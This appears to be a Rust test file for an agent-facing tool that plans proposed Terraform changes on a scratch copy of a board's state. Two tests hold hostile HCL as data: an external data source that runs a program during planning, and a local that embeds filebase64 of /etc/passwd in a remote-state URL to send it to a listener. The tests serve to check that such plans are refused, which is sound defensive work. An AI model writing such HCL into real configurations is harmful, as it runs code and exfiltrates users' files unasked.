//! Plans of what is only proposed, through the real writer: with the real program where there is one, and with one that
//! takes its time where an end must be cut off.

use super::{
    Agents, PATIENCE,
    review::{guarded, id_of, ok},
    runs::add,
};
use crossbeam_channel::Receiver;
use serde_json::json;
use shared_protocol::{
    BoardId, ProposalId, Refusal, RefusalCode,
    decisions::{PlanProposal, ReviewPlanStart},
    messages::ToRenderer,
    requests::{CancelRun, ListRuns, ReadRunLines, RunCommand, StartRun},
    terraform::{
        PlanCounts, PlannedAction, TerraformOperation, TerraformRunId, TerraformRunState, TrialPlanView,
    },
};
use std::{
    collections::BTreeMap,
    fs,
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
    time::Instant,
};
use test_support::{requirements::TERRAFORM, wait_for};

impl Agents {
    fn board(&self) -> BoardId {
        self.running().document().boards[0].id
    }

    fn plan(&self, proposal: ProposalId) -> Result<TerraformRunId, Refusal> {
        let (hash, board) = (self.opened(proposal).hash, self.board());
        match self.review(PlanProposal { proposal, hash, board, secrets: Vec::new() })? {
            ReviewPlanStart::Started { run } => Ok(run),
            other => panic!("{other:?}"),
        }
    }

    fn runs_to_its_end(&self, heard: &Receiver<ToRenderer>, operation: TerraformOperation) {
        let (board, confirmed) = (self.board(), operation.needs_confirmation());
        self.request(StartRun { board, operation, confirmed, secrets: Vec::new() });
        until(heard, |message| match message {
            ToRenderer::Terraform(view) => {
                let run = view.boards.iter().find(|told| told.board == board)?.run.clone()?;
                let is_over = matches!(run.state, TerraformRunState::Succeeded { .. });
                (run.operation == operation && is_over).then_some(())
            }
            _ => None,
        });
    }

    fn scratch(&self) -> Vec<PathBuf> {
        let entries = fs::read_dir(self.running().root.join(".draftboard/trials")).into_iter().flatten();
        entries.map(|entry| entry.unwrap().path()).collect()
    }
}

fn until<T>(heard: &Receiver<ToRenderer>, mut find: impl FnMut(&ToRenderer) -> Option<T>) -> T {
    let end = Instant::now() + PATIENCE;
    loop {
        let message = heard.recv_timeout(end.saturating_duration_since(Instant::now())).unwrap();
        if let Some(found) = find(&message) {
            return found;
        }
    }
}

/// The plan once it is so.
fn trial(
    heard: &Receiver<ToRenderer>,
    run: TerraformRunId,
    is_so: impl Fn(&TrialPlanView) -> bool,
) -> TrialPlanView {
    until(heard, |message| match message {
        ToRenderer::Terraform(view) => {
            view.trials.iter().find(|trial| trial.run.id == run).filter(|trial| is_so(trial)).cloned()
        }
        _ => None,
    })
}

fn is_over(trial: &TrialPlanView) -> bool {
    !matches!(trial.run.state, TerraformRunState::Running | TerraformRunState::Cancelling)
}

/// Every file below a folder with its content.
fn contents(folder: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut found = BTreeMap::new();
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        match path.is_dir() {
            true => found.extend(contents(&path)),
            false => drop(found.insert(path.clone(), fs::read(path).unwrap())),
        }
    }
    found
}

#[test]
fn a_proposal_is_planned_on_a_copy_of_the_state_and_nothing_of_the_board_is_touched() {
    if !TERRAFORM.is_available() {
        return;
    }
    let agents = guarded();
    add(&agents, "first");
    let heard = agents.window();
    agents.runs_to_its_end(&heard, TerraformOperation::Apply);
    let (stream, _) = agents.bridge();
    let second = json!({ "typeId": "terraform/core/terraform_data", "name": "second", "properties": { "input": "x" } });
    ok(&stream, "add_resource", second);
    let other = json!({ "instanceId": "first", "properties": { "input": "other" } });
    ok(&stream, "update_resource", other);
    let id = id_of(&ok(&stream, "submit_proposal", json!({ "title": "Two" })));
    let folder = agents.running().root.join("terraform");
    let before = contents(&folder);

    let run = agents.plan(id).unwrap();
    let told = trial(&heard, run, is_over);
    assert!(matches!(told.run.state, TerraformRunState::Succeeded { .. }), "{told:?}");
    let opened = agents.opened(id);
    assert_eq!((told.proposal, told.version, told.hash), (id, opened.brief.version, opened.hash));
    assert_eq!(told.run.summary, Some(PlanCounts { add: 1, change: 1, remove: 0 }));
    let changes = told.changes.unwrap();
    let planned: Vec<(&str, PlannedAction)> =
        changes.iter().map(|change| (change.address.as_str(), change.action)).collect();
    assert_eq!(
        planned,
        [("terraform_data.first", PlannedAction::Update), ("terraform_data.second", PlannedAction::Create)]
    );
    assert!(changes[0].attributes.iter().any(|attribute| {
        attribute.path == "input"
            && attribute.before.as_deref() == Some("first")
            && attribute.after.as_deref() == Some("other")
    }));

    assert_eq!(contents(&folder), before, "the board's own files, its state among them, are as they were");
    assert_eq!(agents.scratch(), Vec::<PathBuf>::new(), "nothing is left of it");
    let board = agents.board();
    let runs = agents.request(ListRuns { board });
    assert!(runs.iter().all(|known| known.id != run), "it is no run of the board");
    let (_, lines) = agents.request(ReadRunLines { run, from: 0 });
    assert!(lines.iter().any(|line| line.text.contains("Plan: 1 to add, 1 to change")), "{lines:?}");
}

#[test]
fn what_is_planned_is_what_was_seen() {
    let agents = guarded();
    let (stream, _) = agents.bridge();
    let node = |name: &str| json!({ "typeId": "terraform/core/terraform_data", "name": name, "submit": true, "title": name });
    let [one, two] = ["one", "two"].map(|name| id_of(&ok(&stream, "add_resource", node(name))));
    let (hash, board) = (agents.opened(two).hash, agents.board());
    let asked = PlanProposal { proposal: one, hash, board, secrets: Vec::new() };
    assert_eq!(agents.review(asked).unwrap_err().code, RefusalCode::Stale);
    assert_eq!(agents.scratch(), Vec::<PathBuf>::new());
}

/// An agent's HCL could run a program while it is planned; nobody has accepted that.
#[test]
fn what_would_do_more_than_be_planned_is_not_planned() {
    if !TERRAFORM.is_available() {
        return;
    }
    let agents = guarded();
    let (stream, _) = agents.bridge();
    let hcl = "data \"external\" \"x\" {\n  program = [\"touch\", \"ran\"]\n}";
    let node = json!({
        "typeId": "terraform/core/verbatim", "name": "x", "properties": { "text": hcl }, "submit": true, "title": "x"
    });
    let id = id_of(&ok(&stream, "add_resource", node));
    let refusal = agents.plan(id).unwrap_err();
    assert!(refusal.message.contains("data external x in"), "{refusal:?}");
    assert_eq!(agents.scratch(), Vec::<PathBuf>::new());
}

/// Seen: an accepted remote state takes its address from a local, and a proposal changes the local. Its plan would have sent
/// a file of the user's to whoever listens there.
#[test]
fn a_plan_of_a_proposal_sends_nothing_through_what_was_accepted_before() {
    if !TERRAFORM.is_available() {
        return;
    }
    let agents = guarded();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let verbatim = |name: &str, text: &str| {
        let add = json!({ "addNode": {
            "board": "infrastructure", "type": "terraform/core/verbatim", "name": name, "props": { "text": text }
        } });
        agents.running().request(RunCommand { command: serde_json::from_value(add).unwrap() }).unwrap();
    };
    let locals = |value: &str| format!("locals {{\n  address = \"{value}\"\n  other = 1\n}}");
    verbatim("own", &locals(&address));
    verbatim(
        "state",
        "data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n  config = { address = local.address }\n}",
    );
    let (stream, _) = agents.bridge();
    let text = locals(&format!("{address}/${{filebase64(\"/etc/passwd\")}}"));
    ok(&stream, "update_resource", json!({ "instanceId": "own", "properties": { "text": text } }));
    let id = id_of(&ok(&stream, "submit_proposal", json!({ "title": "A local" })));
    let refusal = agents.plan(id).unwrap_err();
    assert!(refusal.message.contains("data terraform_remote_state x in main.tf"), "{refusal:?}");
    assert!(refusal.message.contains("the changed local.address"), "{refusal:?}");
    assert!(refusal.hints[0].contains("plan the board yourself"));
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "nothing was sent");
    assert_eq!(agents.scratch(), Vec::<PathBuf>::new());
}

/// Plans for ever, unless it is told to stop. It handles the signal itself, as Terraform does, because a shell cannot when
/// whoever started the tests ignores it; and it says something only once it does.
const SLOW: &str = "#!/bin/sh\ncase \"$1\" in\n  version) echo 'Terraform v1.9.0' ;;\n  init) echo ready ;;\n  \
    plan) exec perl -e '$| = 1; $SIG{INT} = $SIG{TERM} = sub { exit 130 }; print \"one\\ntwo\\n\"; sleep 1 while 1' ;;\nesac\n";

#[test]
fn a_plan_can_be_cancelled_goes_on_one_at_a_time_and_leaves_nothing() {
    let agents = guarded();
    let program = agents.running().root.join("slow-terraform");
    let text = agents.running().root.join("slow-terraform.txt");
    fs::write(&text, SLOW).unwrap();
    fs::set_permissions(&text, fs::Permissions::from_mode(0o755)).unwrap();
    // Written by a process of its own: a child that another test forks now would hold ours open, and what is open for
    // writing cannot be run.
    assert!(std::process::Command::new("cp").arg("-p").args([&text, &program]).status().unwrap().success());
    let settings = format!("[terraform]\nprogram = {:?}\n", program.display().to_string());
    fs::write(agents.running().user().settings, settings).unwrap();
    let heard = agents.window();
    let (stream, _) = agents.bridge();
    let node =
        json!({ "typeId": "terraform/core/terraform_data", "name": "one", "submit": true, "title": "One" });
    let id = id_of(&ok(&stream, "add_resource", node));

    let run = agents.plan(id).unwrap();
    trial(&heard, run, |trial| trial.run.operation == TerraformOperation::Plan && trial.run.lines > 1);
    assert_eq!(agents.scratch().len(), 1);
    assert_eq!(agents.plan(id).unwrap_err().code, RefusalCode::Conflict, "one at a time");
    agents.running().request(CancelRun { run }).unwrap();
    let told = trial(&heard, run, is_over);
    assert!(matches!(told.run.state, TerraformRunState::Cancelled { .. }), "{told:?}");
    assert_eq!((told.changes, agents.scratch()), (None, Vec::new()));
    assert!(
        !agents.running().root.join("terraform/infrastructure").exists(),
        "the board has no folder of it"
    );

    // The place is free again.
    let again = wait_for("the place of the plan", || agents.plan(id).ok());
    agents.running().request(CancelRun { run: again }).unwrap();
    trial(&heard, again, is_over);
}
